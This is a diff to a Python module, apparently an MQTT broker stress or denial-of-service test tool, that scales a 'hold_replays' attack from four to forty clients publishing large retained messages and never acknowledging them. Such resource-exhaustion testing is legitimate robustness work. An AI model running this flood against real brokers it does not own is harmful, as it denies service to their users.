@@ -12,6 +12,7 @@ import mqtt_packets as packets
 
 _SOME = 64  # packets that a flood sends at once
 _REFUSED = (OSError, EOFError)
+_REPLAYERS, _REPLAYS = 40, 180  # four of them are enough, where each is answered in time
 
 
 class Attack(threading.Thread):
@@ -329,21 +330,23 @@ def hold_answers(attack, attacker):
 
 
 def hold_replays(attack, attacker):
-    """Asks for what is retained again and again while it is replaced, and acknowledges none of it."""
+    """Asks for what is retained again and again while it is replaced, and acknowledges none of it. A client that is not answered in
+    time holds what it has, and another one goes on."""
     wires = []
-    for number in range(4):
+    for number in range(_REPLAYERS):
+        if attack.sent >= 4 * _REPLAYS or attack.stop.is_set():
+            break
         topic = f"hold/replays/{number}"
         if not (wire := attack.enter()):
             continue
         wires.append((wire, topic))
-        for attack.sent in range(180):
-            try:
+        with contextlib.suppress(*_REFUSED):
+            for _ in range(_REPLAYS):
                 wire.send(
                     packets.publish(topic, b"%d" % attack.sent + b"x" * 60_000, qos=1, retain=True),
                     packets.subscribe(topic, own=False))
                 wire.await_type(packets.SUBACK)
-            except _REFUSED:
-                break
+                attack.sent += 1
     attack.linger()
     for wire, topic in wires:
         _clear(wire, [topic])
